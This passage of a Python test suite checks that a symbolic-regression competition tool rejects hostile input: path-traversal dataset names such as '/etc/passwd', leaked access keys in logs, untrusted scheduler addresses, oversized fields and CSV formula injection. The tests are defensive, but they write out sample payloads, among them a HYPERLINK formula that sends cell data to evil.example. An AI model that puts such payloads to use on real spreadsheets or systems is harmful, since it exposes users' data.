    for output in (store, tmp_path / "trust.sqlite-wal"):
        result = runner.invoke(main, ["trust", "export", "--store", str(store), "-o", str(output)])
        assert result.exit_code == 2, result.output
        assert "would overwrite what srdash reads" in result.output
    assert store.read_bytes() == before


def test_an_output_onto_an_input_is_refused_before_any_work(tmp_path, monkeypatch):
    from click.testing import CliRunner

    from srdash.cli import main

    monkeypatch.chdir(tmp_path)
    (tmp_path / "r.csv").write_text("method,dataset,r2_test,components\na,d,0.5,3\nb,d,0.6,4\n")
    (tmp_path / "link.csv").symlink_to(tmp_path / "r.csv")
    runner = CliRunner()
    for command, args in (("score", ["-o", "r.csv"]), ("score", ["-o", "./link.csv"]),
                          ("score", ["-o", "lb.csv", "--problems", str(tmp_path / "r.csv")]),
                          ("report", ["-o", "link.csv"]), ("complexity", ["-o", "r.csv"])):
        result = runner.invoke(main, [command, "r.csv", "--no-cache", *args])
        assert result.exit_code == 2, result.output
        assert "is the input" in result.output and "would overwrite what srdash reads" in result.output
    assert (tmp_path / "r.csv").read_text().startswith("method,dataset")  # untouched


@pytest.mark.parametrize("args, target", [
    (["qualify", "r.csv", "-o", "r.csv"], "r.csv"),
    (["qualify", "r.csv", "--track", "t.csv", "--track-output", "./t.csv"], "t.csv"),
    (["audit", "r.csv", "--no-cache", "--published", "p.csv", "-o", "p.csv"], "p.csv"),
    (["audit", "r.csv", "--no-cache", "--published", "p.csv", "-o", "r.csv"], "r.csv"),
    (["sensitivity", "r.csv", "--no-cache", "-o", "link.csv"], "r.csv"),
    (["robustness", "r.csv", "--no-cache", "-o", "out.csv", "--pairwise", "r.csv"], "r.csv"),
    (["robustness", "r.csv", "--no-cache", "-o", "r.csv"], "r.csv"),
    (["analyse", "pareto", "r.csv", "-o", "r.csv"], "r.csv"),
    (["predictions", "score", "subs/submissions.csv", "--targets-preliminary", "subs/targets_preliminary.txt",
      "--targets-final", "subs/targets_final.txt", "-m", "rmse", "-o", "subs/alpha/first.txt"], "subs/alpha/first.txt"),
    (["predictions", "score", "subs/submissions.csv", "--targets-preliminary", "subs/targets_preliminary.txt",
      "--targets-final", "subs/targets_final.txt", "-m", "rmse", "-o", "b.csv", "--shakeup",
      "subs/targets_final.txt"], "subs/targets_final.txt"),
    (["predictions", "report", "subs/submissions.csv", "--targets-csv", "subs/targets.csv", "-m", "rmse",
      "-o", "subs/targets.csv"], "subs/targets.csv"),
])
def test_every_command_that_writes_refuses_an_output_onto_an_input(tmp_path, monkeypatch, args, target):
    """Issue 24: qualify, audit, sensitivity, robustness, analyse and predictions refuse as score does (exit 2),
    before any work, and the input is left as it was."""
    from click.testing import CliRunner

    from srdash.cli import main

    monkeypatch.chdir(tmp_path)
    (tmp_path / "r.csv").write_text("method,dataset,r2_test,components\na,d,0.5,3\nb,d,0.6,4\n"
                                    "LinearRegression,d,0.4,2\n")
    (tmp_path / "t.csv").write_text("method,dataset,r2_test,components\na,d,0.5,3\n")
    (tmp_path / "p.csv").write_text("method,score\na,1\nb,2\n")
    (tmp_path / "link.csv").symlink_to(tmp_path / "r.csv")
    shutil.copytree(Path(__file__).parent / "data" / "predictions" / "regression", tmp_path / "subs")
    before = (tmp_path / target).read_bytes()
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 2, result.output
    assert "would overwrite what srdash reads" in result.output
    assert (tmp_path / target).read_bytes() == before


def test_an_output_inside_a_submissions_folder_is_refused(tmp_path, monkeypatch):
    from click.testing import CliRunner

    from srdash.cli import main

    monkeypatch.chdir(tmp_path)
    shutil.copytree(Path(__file__).parent / "data" / "predictions" / "regression", tmp_path / "subs")
    for output in ("subs/board.csv", "subs/alpha/board.csv"):
        result = CliRunner().invoke(main, ["predictions", "score", "subs", "--targets-csv", "subs/targets.csv",
                                           "-m", "rmse", "-o", output])
        assert result.exit_code == 2, result.output
        assert "lies inside the input folder" in result.output
        assert not (tmp_path / output).exists()  # a leaderboard in the folder would be a team's submission


# ---------------------------------------------------------------------------- issue 24, class 6: a kernel per wrong key


def test_a_wrong_review_key_is_refused_before_any_kernel_starts(tmp_path):
    """The served review (a real Voilà): a missing, unknown or revoked key gets 403 and no kernel; the
    keys in the links never reach the terminal. (A valid key's kernel is the browser tests' business.)"""
    import subprocess
    import sys
    import urllib.error
    import urllib.request

    from srdash.apps.server import free_port
    from srdash.judging.trust import TrustStore

    path = tmp_path / "trust.sqlite"
    with TrustStore(path, seed=3) as store:
        store.issue_key("ann")
        revoked = store.issue_key("bob")
        store.revoke_keys("bob")
    (tmp_path / "r.csv").write_text("method,dataset,model,r2_test\na,d1,x1,0.5\nb,d1,2*x1,0.6\n")
    port = free_port()
    env = {**os.environ, "SRDASH_CACHE_DIR": str(tmp_path / "cache"), "JUPYTER_RUNTIME_DIR": str(tmp_path / "rt"),
           "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    log = open(tmp_path / "server.log", "w")
    process = child_processes.start([sys.executable, "-m", "srdash", "review", "r.csv", "--store", str(path),
                                     "--port", str(port)], cwd=tmp_path, env=env, stdout=log,
                                    stderr=subprocess.STDOUT)
    try:
        base = f"http://127.0.0.1:{port}/"
        child_processes.wait_until_serving(process, base, log=tmp_path / "server.log")
        before = MAKE.tree_rss_mb(process.pid)
        start = time.perf_counter()
        pages = {}
        for query in ("", "?key=Zq9-guessed-key", f"?key={revoked}"):
            with pytest.raises(urllib.error.HTTPError) as refused:
                urllib.request.urlopen(base + query, timeout=60)
            assert refused.value.code == 403
            pages[query] = refused.value.read().decode()
        # Bound asserted, loosely: 3 refusals within 15 s and less than half a kernel (~140 MB) more memory in
        # the server's process tree (measured for 20: ~30 ms each, +9 MB in all; benchmarks/hostile.py --classes 6).
        assert time.perf_counter() - start < 15.0
        assert MAKE.tree_rss_mb(process.pid) - before < 70.0
        assert "This review needs your personal link" in pages[""]
        assert "This access key is not valid" in pages["?key=Zq9-guessed-key"]
        assert "This access key was revoked on" in pages[f"?key={revoked}"]
        assert revoked not in pages[f"?key={revoked}"]
        # the refusal page loads nothing from another machine (Voilà's own page linked Font Awesome on a CDN)
        assert [page for page in pages.values() if 'href="http' in page or 'src="http' in page] == []
        with pytest.raises(urllib.error.HTTPError):                   # a failing request, logged
            urllib.request.urlopen(base + "voila/static/nothing.js?key=Zq9-in-a-mistyped-link", timeout=60)
        kernels = [child for voila in MAKE.children(process.pid) for child in MAKE.children(voila)]
        assert kernels == []                                          # no kernel for any of them
    finally:
        child_processes.stop(process)
        log.close()
    output = (tmp_path / "server.log").read_text()
    assert "403 GET /?key=[hidden]" in output
    assert "Zq9" not in output and revoked not in output


# -------------------------------------------------------------------- issue 24, class 7: work that outlives its command


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="PR_SET_PDEATHSIG is Linux's")
def test_a_busy_worker_dies_with_a_parent_stopped_by_sigterm():
    # SIGTERM runs no clean-up in the parent; before, its simplification workers ran on at 100 % CPU for up
    # to 11 minutes. Bound asserted: gone within 10 s (measured 0.03-0.1 s: benchmarks/hostile.py --classes 7).
    seconds = MAKE.sigterm_to_parent_of_a_busy_worker(sys.path, limit=10.0)
    assert seconds is not None, "the worker outlived its parent by more than 10 s"


# ------------------------------------------------------ issue 24, class 8: a Dask scheduler named by a competition file


def test_a_scheduler_named_by_the_competition_file_is_ignored_unless_confirmed(tmp_path):
    # A competition folder from someone else must not choose where its models are computed.
    from srdash.judging.competition import load_competition

    path = MAKE.competition_naming(tmp_path, "scheduler", '"tcp://203.0.113.9:8786"')
    with pytest.warns(UserWarning, match=r"line 3: the competition file names the Dask scheduler "
                                         r"'tcp://203.0.113.9:8786'; it is not used .* unless you confirm it with "
                                         r"--trust-competition-scheduler"):
        ignored = load_competition(path)
    assert ignored.simplification.scheduler is None
    confirmed = load_competition(path, trust_scheduler=True)
    assert confirmed.simplification.scheduler == "tcp://203.0.113.9:8786"


# ----------------------------------------------- issue 24, class 9: a trust store or [realworld] dataset naming nothing


def test_a_realworld_dataset_entry_naming_no_dataset_is_refused_not_dropped(tmp_path):
    """`datasets = ["d1", "d9"]` where the results hold d1 and d2: judging d1 alone would publish a track its
    author did not declare; the score, the review and the apps all say which entry of which file is wrong."""
    from click.testing import CliRunner

    from srdash.cli import main
    from srdash.judging.competition import load_competition
    from srdash.judging.pipeline import (RealWorldTrackRefused, judge_competition, judge_prepared,
                                         prepare_competition, results_under_review)
    from srdash.judging.trust import TrustStore

    rows = [{"method": m, "dataset": d, "run": 0, "r2_test": 0.9 - 0.1 * i, "components": 3 + i, "property": 0.5}
            for d in ("d1", "d2") for i, m in enumerate("ab")]
    pd.DataFrame(rows).to_csv(tmp_path / "results.csv", index=False)
    with TrustStore(tmp_path / "trust.sqlite", seed=1) as store:
        for rank, method in enumerate("ab", start=1):
            store.record("judge", "d1", method, kind="rank", value=float(rank))
    toml = tmp_path / "competition.toml"
    toml.write_text('results = "results.csv"\n[realworld]\nstore = "trust.sqlite"\ndatasets = ["d1", "d9"]\n'
                    '[simplification]\ncache = false\n')
    competition = load_competition(toml)
    message = r"competition\.toml: \[realworld\] datasets: entry 'd9' names no dataset of the competition's " \
              r"results \(datasets: d1, d2\)"
    with pytest.raises(RealWorldTrackRefused, match=message):
        judge_competition(competition)
    with pytest.raises(RealWorldTrackRefused, match=message):
        results_under_review(competition)
    result = CliRunner().invoke(main, ["score", str(toml)])
    assert result.exit_code == 1 and "entry 'd9' names no dataset" in result.output, result.output
    # the apps show the main track with the refusal as a warning, never a track without d9
    shown = judge_prepared(prepare_competition(competition), refused_realworld="warn")
    assert shown.realworld is None
    assert any("entry 'd9' names no dataset" in note for note in shown.verdict.warnings)
    # the same file with the name corrected is judged
    toml.write_text(toml.read_text().replace('"d9"', '"d2"'))
    with TrustStore(tmp_path / "trust.sqlite") as store:
        store.record("judge", "d2", "a", kind="rank", value=1.0)
    assert judge_competition(load_competition(toml)).realworld is not None


@pytest.mark.parametrize("store, state", [("/dev/null", "is not a regular file"), ("fifo", "is not a regular file"),
                                          ("folder", "is not a regular file"), ("nothing.sqlite", "does not exist")])
def test_a_trust_store_naming_nothing_a_device_or_a_fifo_is_refused_not_a_track_without_trust(tmp_path, store,
                                                                                               state):
    from click.testing import CliRunner

    from srdash.cli import main

    (tmp_path / "results.csv").write_text("method,dataset,run,r2_test,components,property\n"
                                          "a,d1,0,0.9,3,0.5\nb,d1,0,0.8,4,0.5\n")
    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "folder").mkdir()
    (tmp_path / "competition.toml").write_text(f'results = "results.csv"\n[realworld]\nstore = "{store}"\n'
                                               '[simplification]\ncache = false\n')
    result = CliRunner().invoke(main, ["score", str(tmp_path / "competition.toml")])
    assert result.exit_code == 1, result.output
    assert "The real-world track cannot be judged: its trust store" in result.output and state in result.output


# ------------------------------------------------------ issue 24, class 10: non-ASCII digits and underscores in numbers


@pytest.mark.parametrize("text", ["١٢٣", "１２", "1_000", "0.5_0", "٠.٥"])
def test_non_ascii_digits_and_underscores_are_refused_in_results_as_in_predictions(text, tmp_path):
    from srdash.io.predictions import Targets, read_solution

    (tmp_path / "solution.txt").write_text(f"{text}\n2\n", encoding="utf-8")   # the prediction files' rule
    with pytest.raises(ValidationError, match=rf"\(1 problem\):\n  - .*solution\.txt, row 1: "
                                              rf"'{re.escape(text)}' is not a number"):
        read_solution(tmp_path / "solution.txt", Targets.from_arrays([1.0, 2.0], ["preliminary", "final"]))
    table = pd.DataFrame({"method": ["a"], "dataset": ["d"], "run": ["0"], "r2_test": [text], "components": ["3"]})
    with pytest.raises(ValidationError, match=r"column 'r2_test': .* is not a number"):
        load_results(table)
    with pytest.raises(ValidationError, match=r"column 'run': .* is not an integer"):
        load_results(table.assign(r2_test="0.5", run=text))


def test_honest_numbers_still_read_in_results():
    table = pd.DataFrame({"method": ["a", "b"], "dataset": ["d", "d"], "run": ["0", "+1"],
                          "r2_test": ["-1.5e-3", ".5"], "components": ["3", "4.0"]})
    assert load_results(table).table["r2_test"].tolist() == [-0.0015, 0.5]


# ------------------------------------------------------------------ issue 24, class 11: method names that display alike


def test_names_that_display_alike_are_merged_with_a_warning_naming_the_spellings(tmp_path):
    table = MAKE.lookalike_results(tmp_path / "results.csv")
    with pytest.warns(UserWarning, match=r"method names are compared as they display .*merged: "
                                         r"'Operon' and 'Oper\\u200bon' and '\\u202eOperon' and '\\uff2fperon' "
                                         r"-> 'Operon'"):
        results = load_results(table)
    assert sorted(results.table["method"].unique()) == ["Operon", "PySR"]


# -------------------------------------------------------------------- issue 24, class 12: a dataset name that is a path


@pytest.mark.parametrize("dataset", ["../private/secret", "/etc/passwd", "sub/../../private/secret", "..", "."])
def test_a_dataset_name_that_is_a_path_never_reads_outside_the_data_folder(tmp_path, dataset):
    from srdash.judging.representative import find_test_file

    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "secret_test.csv").write_text("x,y\n1,2\n")
    data = tmp_path / "data"
    data.mkdir()
    (data / "honest_test.csv").write_text("x,y\n1,2\n")
    (data / "leak_test.csv").symlink_to(tmp_path / "private" / "secret_test.csv")
    assert find_test_file(data, dataset) is None
    assert find_test_file(data, "leak") is None  # a link out of the folder
    assert find_test_file(data, "honest") == data / "honest_test.csv"


# ---------------------------------------------------------------------- issue 24, class 13: timeout = nan, inf or 1e300


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "1e300", "0"])
def test_a_time_limit_that_is_not_a_finite_positive_number_of_seconds_is_refused(tmp_path, value):
    from srdash.errors import CompetitionError
    from srdash.judging.competition import load_competition

    with pytest.raises(CompetitionError, match=r"'simplification\.timeout' must be a number of seconds > 0 and at "
                                               r"most 86,400 \(one day\)"):
        load_competition(MAKE.competition_naming(tmp_path, "timeout", value))


# --------------------------------------------------------------------------------- issue 24, class 14: a 20 MiB comment


def test_a_comment_over_ten_thousand_characters_is_refused_with_a_message(tmp_path):
    from srdash.judging.trust import MAX_COMMENT_CHARS, TrustStore, TrustStoreError

    path = tmp_path / "trust.sqlite"
    with TrustStore(path, seed=1) as store:
        store.record("ann", "d1", "a", kind="rank", value=1, comment="x" * MAX_COMMENT_CHARS)  # at the limit: kept
        with pytest.raises(TrustStoreError, match=r"A comment may have at most 10,000 characters; this one has "
                                                  r"10,001 \(a on d1\)\. Shorten it; it was not saved\."):
            store.record("ann", "d1", "a", kind="rank", comment="x" * (MAX_COMMENT_CHARS + 1))
        assert len(store.entries()["comment"].iloc[0]) == MAX_COMMENT_CHARS
        # The issue's 20 MiB comment grew the store by 80 MiB. Bound asserted: refused within 5 s, the store
        # and its log grow by less than 1 MiB (measured: 0.1 ms, +0 MiB; benchmarks/hostile.py --classes 14).
        before = MAKE.store_bytes(path)
        start = time.perf_counter()
        with pytest.raises(TrustStoreError, match=r"this one has 20,971,520"):
            store.record("ann", "d1", "a", kind="rank", comment=MAKE.huge_comment())
        assert time.perf_counter() - start < 5.0
        assert MAKE.store_bytes(path) - before < 2**20


# --------------------------------------------------- issue 24, class 15: keys in Voila's log, the ping setting a string


def test_query_values_never_reach_the_log():
    import logging

    from srdash.apps.gate import RedactQueries, log_request, redact_queries

    assert redact_queries("GET /voila/render/x.ipynb?theme=dark&key=Zq9-s3cr3t&token=t0k") == \
        "GET /voila/render/x.ipynb?theme=[hidden]&key=[hidden]&token=[hidden]"
    record = logging.LogRecord("tornado.general", logging.WARNING, __file__, 1, "%d %s: %s",
                               (403, "GET /?key=Zq9-s3cr3t (127.0.0.1)", "refused"), None)
    RedactQueries().filter(record)
    assert record.getMessage() == "403 GET /?key=[hidden] (127.0.0.1): refused"

    class Handler:  # what tornado hands its log_function
        class request:
            method, uri, remote_ip = "GET", "/missing?key=Zq9-s3cr3t", "127.0.0.1"

            @staticmethod
            def request_time():
                return 0.002

        @staticmethod
        def get_status():
            return 404

    seen = []
    handler = logging.Handler()
    handler.emit = lambda rec: seen.append(rec.getMessage())
    logger = logging.getLogger("tornado.access")
    # whatever an earlier test in this process did to the logger (a level, disabled), it logs here
    level, disabled = logger.level, logger.disabled
    logger.setLevel(logging.INFO)
    logger.disabled = False
    logger.addHandler(handler)
    try:
        log_request(Handler)
    finally:
        logger.removeHandler(handler)
        logger.setLevel(level)
        logger.disabled = disabled
    assert seen == ["404 GET /missing?key=[hidden] (127.0.0.1) 2.00ms"]


def test_the_voila_settings_are_numbers_and_no_config_of_the_current_folder_is_read(tmp_path):
    from srdash.apps import server
    from srdash.apps.gate import KERNEL_MANAGER, REVIEW_DOOR, tornado_settings

    assert tornado_settings()["ws_ping_timeout"] == 90000        # an int: tornado compares it with floats
    command = server.voila_command("nb.ipynb", port=1, python="py", review=True, config_dirs=[tmp_path])
    paths = [part.split("=", 1)[1] for part in command if part.startswith("--Voila.config_file_paths=")]
    assert [Path(p).name for p in paths] == ["review", tmp_path.name]  # srdash's and the token's, not '.'
    assert not any(part.startswith("--Voila.tornado_settings") for part in command)

    from traitlets.config import Config

    from srdash.apps.gate import PROVISIONER, REVIEW_PRELOAD

    config = Config()  # what Voilà's get_config() returns
    namespace = {"get_config": lambda: config}
    exec((Path(paths[0]) / "voila.py").read_text(), namespace)
    # the door is the review's identity provider, asked before any kernel is started or taken from the pool
    assert config.Voila.identity_provider_class == REVIEW_DOOR and "prelaunch_hook" not in config.VoilaConfiguration
    assert config.VoilaConfiguration.multi_kernel_manager_class == KERNEL_MANAGER
    assert config.Voila.tornado_settings == tornado_settings()
    # every kernel through srdash's provisioner, forked from a zygote that imported the review's modules
    assert config.KernelProvisionerFactory.default_provisioner_name == PROVISIONER
    assert config.ForkProvisioner.preload == list(REVIEW_PRELOAD)
    assert config.VoilaExecutor.iopub_timeout == 120          # a cell's late output is waited for, not dropped


# -------------------------------------------------- issue 24, class 16: a model stopped by the wall clock, never cached


def test_a_model_stopped_by_the_wall_clock_is_cached_as_a_timeout_with_its_limit(tmp_path, monkeypatch):
    import srdash.expressions as expressions
    from srdash.cache import ResultCache

    # Every worker killed by the wall clock at once (the hard limit made tiny), as a model stuck in C code: a
    # model whose simplification takes far longer than 10 ms even in a warm worker (sixty sine terms).
    model = " + ".join(f"sin({i}.5*x1 + x2)" for i in range(60))
    monkeypatch.setattr(expressions.complexity.ComplexitySettings, "hard_limit", property(lambda self: 0.01))
    first = complexity_table([model], timeout=5, cache=tmp_path / "c.sqlite")
    assert first["status"].tolist() == ["timeout"]
    with ResultCache(tmp_path / "c.sqlite") as store:
        rows = store.export_rows(kind="complexity")
    assert [(row[2], row[4]) for row in rows] == [("timeout", 5.0)]  # status and the limit it holds for
    monkeypatch.setattr(expressions.complexity, "WorkerPool", None)  # a second scoring does no work: from the cache
    monkeypatch.setattr(expressions.equivalence, "WorkerPool", None)
    start = time.perf_counter()
    again = complexity_table([model], timeout=5, cache=tmp_path / "c.sqlite")
    assert again["status"].tolist() == ["timeout"]
    # Before: the whole wall-clock limit again on every scoring (75 s at --timeout 10). Bound asserted: 2 s
    # (measured: 10 ms, against 2-10 s for the first scoring's start and kill; benchmarks/hostile.py --classes 16).
    assert time.perf_counter() - start < 2.0


# =========================================================================== issue 32 (hostile input, round 4)
# One section per class: a wide prediction file, rejection reasons that quoted the file, formulas in CSV
# outputs, junk in energy columns. Inputs built by tests/data/hostile/make_inputs.py into tmp_path; the bounds
# are measured by `python benchmarks/hostile.py --classes 32.1 32.2 32.3 32.4`.

INPUTS = _script("make_inputs")


def _scored(folder: Path):
    """The one submission of SUBMISSIONS/team, scored against make_inputs' targets, and its cost."""
    import sklearn.metrics  # noqa: F401 - imported before measuring: the first scoring imports it (about 80 MB)

    box = {}
    seconds, megabytes = MAKE.cost(lambda: box.setdefault("result", score_submissions(
        folder / "SUBMISSIONS", INPUTS.targets(), metric="rmse")))
    return box["result"].submissions.iloc[0], seconds, megabytes


# ----------------------------------------------------------------- issue 32, class 1: a wide prediction file


def test_a_prediction_file_with_100000_extra_columns_is_refused_from_its_header_line(tmp_path):
    path = INPUTS.wide_header(tmp_path)
    assert 3.5e6 < path.stat().st_size < 64 * 2**20  # 3.9 MB: well under the size limit
    submission, seconds, megabytes = _scored(tmp_path)
    assert submission["status"] == "rejected"
    # 100,000 extra columns + id + prediction = 100,002 columns, counted from the header line's commas.
    assert submission["reason"] == ("its header line has 100,002 columns; a solution CSV has the columns id, "
                                    "prediction and at most 10 columns in all. Refused before its rows are read; "
                                    "remove the other columns.")
    # Before: 87-196 s and 1.0-1.2 GB, and scored. Measured now: 0.09 s, 4 MB (the file read once). Asserted
    # loosely: the work must not grow with the columns nobody asked for.
    assert seconds < 5.0
    assert megabytes is None or megabytes < 100, megabytes


def test_rows_wider_than_an_honest_header_are_refused_at_the_cost_of_reading_them_once(tmp_path):
    INPUTS.wide_rows(tmp_path)
    submission, seconds, megabytes = _scored(tmp_path)
    assert submission["status"] == "rejected"
    assert submission["reason"].startswith("row 1: has 100002 fields but the header has 2 (id, prediction)")
    # Measured: 0.2 s, 15 MB for 3.2 MB of rows (one pass of the csv module).
    assert seconds < 10.0
    assert megabytes is None or megabytes < 200, megabytes


def test_only_the_needed_columns_of_an_honest_solution_are_read(tmp_path):
    from srdash.io.csvcolumns import read_csv_columns

    INPUTS.honest(tmp_path, extra="Usage")
    submission, _, _ = _scored(tmp_path)
    # Predictions i + 0.5 for targets i: RMSE 0.5 on each subset, whatever the extra column holds.
    assert submission["status"] == "ok" and submission["rmse_final"] == pytest.approx(0.5)
    table, problems = read_csv_columns(b"prediction,Usage,id\n2,Public,b\n", source="s.csv",
                                       required=("id", "prediction"), max_columns=10)
    assert problems == [] and table.to_dict("list") == {"id": ["b"], "prediction": ["2"]}
    _, problems = read_csv_columns(b"id,prediction,prediction\n1,2,3\n", source="s.csv",
                                   required=("id", "prediction"), max_columns=10)
    assert str(problems[0]) == ("s.csv, column 'prediction': the column appears 2 times in the header; give each "
                                "column a distinct name.")
    long = b"id,prediction," + b"x" * 5000 + b"\n1,2,3\n"
    _, problems = read_csv_columns(long, source="s.csv", required=("id", "prediction"), max_columns=10)
    assert str(problems[0]) == ("s.csv: its header line is 5,014 bytes long; a solution CSV's header (columns id, "
                                "prediction) is at most 4,096 bytes. Refused before its rows are read.")


# ------------------------------------------------------- issue 32, class 2: a rejection reason that quotes the file


def test_a_header_of_nul_bytes_is_refused_without_quoting_them(tmp_path):
    INPUTS.nul_header(tmp_path)
    submission, _, _ = _scored(tmp_path)
    # Before: a reason of 3,025 characters here (and 32,844 with no data rows: 8,192 NULs shown as '\x00').
    assert submission["reason"] == "is not a text file (byte 1 is a NUL byte; a UTF-16 file? save it as UTF-8)."


def test_a_header_of_long_names_and_terminal_escapes_is_shown_shortened_and_escaped(tmp_path):
    INPUTS.long_header(tmp_path)
    submission, _, _ = _scored(tmp_path)
    reason = submission["reason"]
    assert reason.startswith("missing columns 'id', 'prediction'; expected id, prediction; found "
                             "'\\x1b[2J\\x1b[31mSECRET-yyyyyyyyyyyyyyyyyyyyy...', ")
    assert "\x1b" not in reason and len(reason) < 400  # before: 2,704 characters, names in full


@pytest.mark.parametrize("make", ["wide_header", "wide_rows", "nul_header", "long_header", "many_problems"])
def test_every_rejection_reason_is_bounded_and_never_carries_control_characters(tmp_path, make):
    getattr(INPUTS, make)(tmp_path)
    submission, _, _ = _scored(tmp_path)
    reason = submission["reason"]
    assert submission["status"] == "rejected"
    # At most 1,000 characters of problems, then a count (before: 2,015-32,844 characters on these inputs).
    assert len(reason) < 1_200, len(reason)
    assert reason.isprintable()


def test_a_reason_with_many_problems_ends_with_a_count_of_the_rest(tmp_path):
    INPUTS.many_problems(tmp_path)
    submission, _, _ = _scored(tmp_path)
    # 2,000 rows, each with one or two problems, listed 10 per kind then counted: the reason shows the first
    # few and says how many more there are.
    assert re.search(r" \| \.\.\. and \d+ more problems \(listed in the result's problems\)$", submission["reason"])


# --------------------------------------------------------------------- issue 32, class 3: formulas in CSV outputs


def test_every_csv_srdash_writes_goes_through_the_neutralising_writer():
    import srdash

    package = Path(srdash.__file__).parent
    # Serialised to be hashed, never written to a file: neutralising them would change fingerprints.
    hashed = {("judging/fingerprint.py", 'text = frame.to_csv(index=False, lineterminator="\\n")'),
              ("judging/fingerprint.py", '"per_dataset": verdict.per_dataset.to_csv(index=False, float_format="%.9g"),')}
    writers = re.compile(r"\.to_csv\(|csv\.writer\(|DictWriter\(|\.to_excel\(")
    found = set()
    for path in sorted(package.rglob("*.py")):
        relative = path.relative_to(package).as_posix()
        if relative == "io/csvsafe.py":
            continue
        for line in path.read_text(encoding="utf-8").splitlines():
            code = line.strip()
            if code.startswith((">>>", "...")) or not writers.search(code):  # doctest examples write test inputs
                continue
            found.add((relative, code))
    assert found == hashed, f"CSV writers outside srdash.io.csvsafe.write_csv: {sorted(found - hashed)}"
    # Only the demo's generated input files (srdash's own constants, shipped byte for byte) keep formulas.
    keeping = {path.relative_to(package).as_posix() for path in package.rglob("*.py")
               if 'formulas="keep"' in path.read_text(encoding="utf-8")} - {"io/csvsafe.py"}
    assert keeping == {"demo/folder.py", "demo/srbench2025.py", "demo/predictions.py"}
    from srdash.io.csvsafe import write_csv

    with pytest.raises(SrdashError, match=r"The 'formulas' option must be one of 'neutralise', 'keep'\. "
                                          r"Got 'none'\."):
        write_csv(pd.DataFrame({"a": [1]}), formulas="none")


def test_formula_cells_are_neutralised_and_numbers_stay_numbers():
    from srdash.io.csvsafe import write_csv

    frame = pd.DataFrame({"method": list(INPUTS.FORMULA_NAMES) + ["Honest", "-1.5"],
                          "score": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, -7.25, 8.0],
                          "flag": [True] * 8})
    rows = list(csv.reader(io.StringIO(write_csv(frame), newline="")))
    assert rows[0] == ["method", "score", "flag"]
    # Each formula start (= + - @ tab CR) gets the apostrophe; a text cell that is a plain number does not;
    # a numeric column's negative values are written as numbers.
    assert [r[0] for r in rows[1:]] == ["'" + name for name in INPUTS.FORMULA_NAMES] + ["Honest", "-1.5"]
    assert [r[1] for r in rows[1:]] == ["-1.5", "2.0", "-3.0", "4.0", "5.0", "6.0", "-7.25", "8.0"]
    assert frame["method"].iloc[0].startswith("=")  # the argument is not changed
    named = write_csv(pd.DataFrame({"=cmd|x": [1]}, index=pd.Index(["@x"], name="-y")), index=True)
    assert named.splitlines() == ["'-y,'=cmd|x", "'@x,1"]


def test_the_leaderboard_csv_neutralises_method_names_and_reads_back_as_written(tmp_path, monkeypatch):
    from click.testing import CliRunner

    from srdash.cli import main

    monkeypatch.setenv("SRDASH_CACHE_DIR", str(tmp_path / "cache"))
    results = INPUTS.formula_results(tmp_path)
    board, per_dataset = tmp_path / "board.csv", tmp_path / "per_dataset.csv"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # the tab and CR names are trimmed, with a warning
        out = CliRunner().invoke(main, ["score", str(results), "-o", str(board), "--per-dataset",
                                        str(per_dataset), "--no-cache"])
    assert out.exit_code == 0, out.output
    names = [name.strip() for name in INPUTS.FORMULA_NAMES]  # '\t=2+5' displays (and ranks) as '=2+5'
    written = pd.read_csv(board, dtype=str, keep_default_na=False)
    # Place by the hand-made scores: Honest first, then the names in the order they were given.
    assert written["method"].tolist() == ["Honest"] + ["'" + name for name in names]
    detail = pd.read_csv(per_dataset, dtype=str, keep_default_na=False)
    assert set(detail["method"]) == {"Honest"} | {"'" + name for name in names}
    # property -0.5 * i, written from a numeric column: negative numbers are not neutralised.
    assert "-1.5" in set(detail["property"]) and not any(v.startswith("'") for v in detail["property"])
    # Read back (a published leaderboard audited, results written by srdash), the names are the real ones.
    audited = CliRunner().invoke(main, ["audit", str(results), "--published", str(board), "--no-cache"])
    assert audited.exit_code == 0 and f"All {len(names) + 1} methods agree" in audited.output, audited.output
    from srdash.io.csvsafe import write_csv

    write_csv(load_results(results).table, tmp_path / "again.csv")
    assert sorted(load_results(tmp_path / "again.csv").table["method"].unique()) == sorted(["Honest"] + names)


def test_a_trust_export_neutralises_comments_and_imports_back_unchanged(tmp_path):
    from srdash.judging.trust import TrustStore

    comment = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    with TrustStore(tmp_path / "trust.sqlite", seed=1) as store:
        store.record("ann", "d1", "a", kind="rank", value=1, comment=comment)
        store.record("ann", "d1", "-b", kind="rank", value=2, comment="fine")
        store.export_csv(tmp_path / "trust.csv")
        exported = store.entries()
    written = pd.read_csv(tmp_path / "trust.csv", dtype=str, keep_default_na=False)
    assert sorted(written["comment"]) == ["'" + comment, "fine"] and sorted(written["method"]) == ["'-b", "a"]
    with TrustStore(tmp_path / "copy.sqlite") as copy:
        copy.import_csv(tmp_path / "trust.csv")
        columns = ["judge", "dataset", "method", "kind", "value", "comment"]
        pd.testing.assert_frame_equal(copy.entries()[columns], exported[columns])


# -------------------------------------------------------------------- issue 32, class 4: junk in energy columns


def test_junk_in_an_energy_column_is_a_problem_per_cell_naming_file_row_and_column(tmp_path):
    from click.testing import CliRunner

    from srdash.cli import main

    path = INPUTS.junk_energy(tmp_path)
    out = CliRunner().invoke(main, ["analyse", "resources", str(path)])
    # Before: exit 0, a median of 1e+308, an empty total and an overall 'nan', no problem named.
    assert out.exit_code == 1
    bad = [(row, text) for row, text, kind in INPUTS.JUNK_ENERGY if kind == "bad"]
    assert f"The resource columns of {path} are not valid ({len(bad)} problems):" in out.output
    for row, text in bad:  # read by pandas: '1e999' overflows to inf, '-5' stays text beside 'lots'
        assert re.search(rf"{re.escape(str(path))}, row {row}, column 'power_consumption\(kWh\)': '[^']+' is "
                         rf"(not a number|not finite|below 0);", out.output), (row, text)
    for row, text, kind in INPUTS.JUNK_ENERGY:
        if kind == "missing":
            assert f"row {row}, column" not in out.output


def test_resource_columns_follow_the_rule_of_metric_columns():
    from srdash.analysis.resources import over_budget, resource_summary, training_times

    table = pd.DataFrame({"method": ["a", "a", "b", "b"], "dataset": ["d1", "d2", "d1", "d2"],
